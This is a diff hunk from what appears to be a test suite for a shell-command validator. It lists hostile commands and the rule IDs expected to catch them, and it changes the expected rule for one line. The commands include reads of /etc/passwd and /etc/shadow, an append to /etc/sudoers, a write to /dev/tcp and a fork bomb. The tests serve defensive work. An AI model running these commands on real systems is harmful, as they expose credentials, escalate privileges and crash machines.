@@ -93,7 +93,7 @@ describe('shell hidden code, redirects, fork bombs, system changes', () => {
     ['cat ../../etc/passwd', 'sh.path.outside'],
     ['tee -a /etc/sudoers < x', 'sh.path.write-outside'],
     ['sort -o /etc/x in.txt', 'sh.path.write-outside'],
-    ['date -f /etc/shadow', 'sh.path.outside'],
+    ['date -f /etc/shadow', 'sh.option.not-allowed'],
     ['cd /etc && cat shadow', 'sh.path.outside'],
     ['echo hi > /dev/tcp/10.0.0.1/80', 'sh.network.dev-tcp'],
     [':(){ :|:& };:', 'sh.forkbomb'],
